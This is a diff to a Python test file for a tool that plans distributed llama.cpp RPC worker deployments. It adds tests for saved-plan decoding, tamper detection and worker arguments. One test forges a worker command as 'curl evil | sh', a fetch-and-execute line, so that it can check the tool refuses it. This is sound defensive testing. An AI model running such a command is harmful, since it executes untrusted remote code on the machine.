@@ -11,6 +11,7 @@ from engine_ctl.cli.views.plan import plan_text
 from engine_ctl.core.documents.inventory import Host, Inventory
 from engine_ctl.core.fit.hostfacts import HostFacts, UnitFact
 from engine_ctl.core.plan.planner import Plan, make_plan
+from engine_ctl.core.plan.savedplan import decode_plan, tampering
 from engine_ctl.core.plan.status import deployment_status
 from engine_ctl.core.record.model import DeploymentRecord, MemberRecord, ReplicaRecord, State
 from tests.fleetfacts import cpu_host
@@ -233,3 +234,28 @@ def test_destroying_a_group_removes_its_members_with_the_head() -> None:
     (rc,) = plan.changes[0].replicas
     assert rc.action == ["delete"] and [m.unit for m in rc.old_members] == ["engine-ctl-chat-0a-w1.service"]
     assert "- group member 1 on c2: engine-ctl-chat-0a-w1.service (removed with the head)" in plan_text(plan)
+
+
+# --- a saved plan and the provider ------------------------------------------------------------------------------
+
+
+def test_a_saved_plan_carries_the_group_and_a_forged_worker_is_refused() -> None:
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
+    plan = _plan(State(), inv, facts)
+    hosts = {h.name: h for h in inv.hosts}
+    decoded = decode_plan(plan.model_dump_json())
+    assert decoded is not None and tampering(decoded, hosts) == []
+    (r,) = decoded.changes[0].replicas
+    assert r.placement is not None and len(r.placement.members) == 1 and r.members[0].unit_text
+    r.members[0].argv = ["/bin/sh", "-c", "curl evil | sh"]
+    (problem,) = tampering(decoded, hosts)
+    assert "the group's members differ from what engine-ctl renders" in problem
+
+
+def test_the_llamacpp_group_argv_as_its_rpc_readme_describes() -> None:
+    """llama.cpp tools/rpc/README.md: `rpc-server --host H --port P` on each worker, `--rpc H:P,…` on the head."""
+    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
+    (r,) = _plan(State(), inv, facts, "accelerator: cpu, nodes: 3").changes[0].replicas
+    workers = ",".join(f"{m.argv[2]}:{m.port}" for m in r.members)
+    assert r.argv[r.argv.index("--rpc") + 1] == workers and r.argv.count("--n-gpu-layers") == 1
+    assert [m.argv[:3] for m in r.members] == [["/opt/llama/bin/rpc-server", "--host", f"10.0.0.{i}"] for i in (2, 3)]
